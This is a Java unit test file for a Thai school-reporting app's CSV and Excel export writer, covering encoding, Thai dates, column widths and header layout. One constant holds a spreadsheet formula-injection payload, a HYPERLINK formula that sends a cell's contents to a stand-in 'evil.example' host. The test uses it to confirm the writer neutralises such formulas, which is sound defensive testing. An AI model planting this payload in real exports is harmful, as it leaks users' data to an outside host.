package th.qaflow.web.export;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.InputStreamReader;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.LocalDate;
import java.time.LocalDateTime;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.DateUtil;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

/** The one export writer, read back with commons-csv and POI: what Excel would open. */
class TableWriterTest {
  static final Locale TH = Locale.forLanguageTag("th-TH");
  static final String SCHOOL = "โรงเรียนบ้านริมคลอง \"ใหม่\", สาขา ๒";
  static final String EVIL = "=HYPERLINK(\"http://evil.example/?\"&A1,\"คลิก\")";
  // 31 May 2026, 08:30 in Bangkok
  static final Instant DUE =
      LocalDateTime.of(2026, 5, 31, 8, 30).atZone(java.time.ZoneId.of("Asia/Bangkok")).toInstant();

  static Table table() {
    return Table.of(
            "เลยกำหนด",
            List.of(
                "รหัสสถานศึกษา", "สถานศึกษา", "กำหนดส่ง", "เลยกำหนด (วัน)", "ค่าเฉลี่ย", "@หัว"))
        .row(
            Table.text("1099010001"),
            Table.text(SCHOOL),
            Table.date(DUE),
            Table.integer(5),
            Table.decimal(3.256),
            Table.text("บรรทัดหนึ่ง\nบรรทัดสอง"))
        .row(
            Table.text("1099010002"),
            Table.text(EVIL),
            Table.date(null),
            Table.integer(0),
            Table.decimal(0),
            Table.text("-2+3"))
        .build();
  }

  @Test
  void csvIsUtf8WithBomAndRfc4180AndShowsDatesAsThePagesDo() throws Exception {
    byte[] csv = TableWriter.csv(table(), TH);
    assertThat(Arrays.copyOf(csv, 3)).containsExactly(0xEF, 0xBB, 0xBF);
    String text = new String(csv, 3, csv.length - 3, StandardCharsets.UTF_8);
    assertThat(text)
        .startsWith("รหัสสถานศึกษา,สถานศึกษา,กำหนดส่ง,")
        .contains("\r\n")
        .contains("\"" + SCHOOL.replace("\"", "\"\"") + "\"");
    List<CSVRecord> records = parse(csv);
    assertThat(records).hasSize(3);
    assertThat(records.get(1).toList())
        .containsExactly(
            "1099010001", SCHOOL, "31 พ.ค. 2569", "5", "3.26", "บรรทัดหนึ่ง\nบรรทัดสอง");
    assertThat(records.get(2).get(2)).isEmpty();
    assertThat(parse(TableWriter.csv(table(), Locale.ENGLISH)).get(1).get(2))
        .isEqualTo("31 May 2026");
  }

  @Test
  void formulaLookingTextIsNeutralisedInBothFormats() throws Exception {
    List<CSVRecord> csv = parse(TableWriter.csv(table(), TH));
    assertThat(csv.get(0).get(5)).isEqualTo("'@หัว");
    assertThat(csv.get(2).get(1)).isEqualTo("'" + EVIL);
    assertThat(csv.get(2).get(5)).isEqualTo("'-2+3");
    try (XSSFWorkbook book = read(TableWriter.xlsx(table(), TH))) {
      XSSFSheet sheet = book.getSheetAt(0);
      List<String> texts = new ArrayList<>();
      sheet.forEach(
          row ->
              row.forEach(
                  c -> {
                    assertThat(c.getCellType()).isNotEqualTo(CellType.FORMULA);
                    if (c.getCellType() == CellType.STRING) {
                      texts.add(c.getStringCellValue());
                    }
                  }));
      assertThat(texts)
          .contains("'@หัว", "'" + EVIL, "'-2+3", SCHOOL)
          .noneMatch(t -> !t.isEmpty() && "=+-@\t\r".indexOf(t.charAt(0)) >= 0);
    }
  }

  @Test
  void xlsxHasRealDateAndNumberCellsAFrozenFilteredHeaderAndFittingColumns() throws Exception {
    try (XSSFWorkbook book = read(TableWriter.xlsx(table(), TH))) {
      XSSFSheet sheet = book.getSheetAt(0);
      assertThat(sheet.getSheetName()).isEqualTo("เลยกำหนด");
      Cell due = sheet.getRow(1).getCell(2);
      assertThat(due.getCellType()).isEqualTo(CellType.NUMERIC);
      assertThat(DateUtil.isCellDateFormatted(due)).isTrue();
      assertThat(due.getLocalDateTimeCellValue()).isEqualTo(LocalDateTime.of(2026, 5, 31, 8, 30));
      assertThat(due.getCellStyle().getDataFormatString())
          .isEqualTo(TableWriter.TH_DATE); // Buddhist Era in Excel
      assertThat(sheet.getRow(1).getCell(3).getNumericCellValue()).isEqualTo(5.0);
      Cell mean = sheet.getRow(1).getCell(4);
      assertThat(mean.getNumericCellValue()).isEqualTo(3.256);
      assertThat(mean.getCellStyle().getDataFormatString()).isEqualTo("0.00");
      assertThat(sheet.getRow(0).getCell(0).getStringCellValue()).isEqualTo("รหัสสถานศึกษา");
      assertThat(book.getFontAt(sheet.getRow(0).getCell(0).getCellStyle().getFontIndex()).getBold())
          .isTrue();
      // header frozen and filtered over the whole table
      assertThat(sheet.getPaneInformation().isFreezePane()).isTrue();
      assertThat(sheet.getPaneInformation().getHorizontalSplitPosition()).isEqualTo((short) 1);
      assertThat(sheet.getPaneInformation().getVerticalSplitPosition()).isZero();
      assertThat(sheet.getCTWorksheet().getAutoFilter().getRef()).isEqualTo("A1:F3");
      // widths follow the text: the school name column is wider than the code column, both within
      // limits
      assertThat(sheet.getColumnWidth(1)).isGreaterThan(sheet.getColumnWidth(0));
      assertThat(sheet.getColumnWidth(0))
          .isBetween(TableWriter.MIN_WIDTH * 256, TableWriter.MAX_WIDTH * 256);
      assertThat(sheet.getColumnWidth(1)).isLessThanOrEqualTo(TableWriter.MAX_WIDTH * 256);
    }
    try (XSSFWorkbook book = read(TableWriter.xlsx(table(), Locale.ENGLISH))) {
      Cell due = book.getSheetAt(0).getRow(1).getCell(2);
      assertThat(DateUtil.isCellDateFormatted(due)).isTrue();
      assertThat(due.getCellStyle().getDataFormatString()).isEqualTo(TableWriter.EN_DATE);
    }
  }

  @Test
  void aLongTextWrapsInACappedColumnAndSeveralTablesMakeSeveralSheets() throws Exception {
    String longText = "ก".repeat(200);
    Table first =
        Table.of("ภาพรวม", List.of("หัวข้อ", "รายละเอียด"))
            .row(Table.text("สรุป"), Table.text(longText))
            .row(Table.text("วันที่"), Table.dateTime(LocalDate.of(2026, 6, 1)))
            .build();
    Table second =
        Table.of("ชื่อ/ที่ยาว:เกิน[สามสิบเอ็ด]ตัวอักษรของ Excel แน่นอน", List.of("a")).build();
    try (XSSFWorkbook book = read(TableWriter.xlsx(List.of(first, second), TH))) {
      assertThat(book.getNumberOfSheets()).isEqualTo(2);
      XSSFSheet sheet = book.getSheet("ภาพรวม");
      assertThat(sheet.getColumnWidth(1)).isEqualTo(TableWriter.MAX_WIDTH * 256);
      assertThat(sheet.getRow(1).getCell(1).getCellStyle().getWrapText()).isTrue();
      assertThat(sheet.getRow(2).getCell(1).getCellStyle().getDataFormatString())
          .isEqualTo(TableWriter.TH_DATE_TIME);
      assertThat(book.getSheetAt(1).getSheetName()).hasSizeLessThanOrEqualTo(31);
      assertThat(book.getSheetAt(1).getCTWorksheet().getAutoFilter().getRef()).isEqualTo("A1");
    }
    // Thai vowel and tone marks above and below a letter take no width
    assertThat(TableWriter.width("ที่")).isEqualTo(1);
  }

  private static List<CSVRecord> parse(byte[] csv) throws Exception {
    return CSVFormat.EXCEL
        .parse(
            new InputStreamReader(
                new ByteArrayInputStream(csv, 3, csv.length - 3), StandardCharsets.UTF_8))
        .getRecords();
  }

  private static XSSFWorkbook read(byte[] xlsx) throws Exception {
    return new XSSFWorkbook(new ByteArrayInputStream(xlsx));
  }
}
